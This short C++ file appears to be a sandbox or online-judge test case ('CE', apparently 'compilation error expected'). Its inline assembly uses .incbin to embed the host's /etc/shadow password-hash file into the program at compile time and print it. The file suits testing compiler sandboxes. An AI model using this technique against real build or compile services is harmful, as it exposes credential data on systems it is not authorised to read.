// CE
// Embeds files of the host into the program by the assembler.
#include <cstdio>
asm(".globl data\ndata: .incbin \"/etc/shadow\"\n.byte 0\n");
extern "C" const char data[];
int main() { puts(data); }
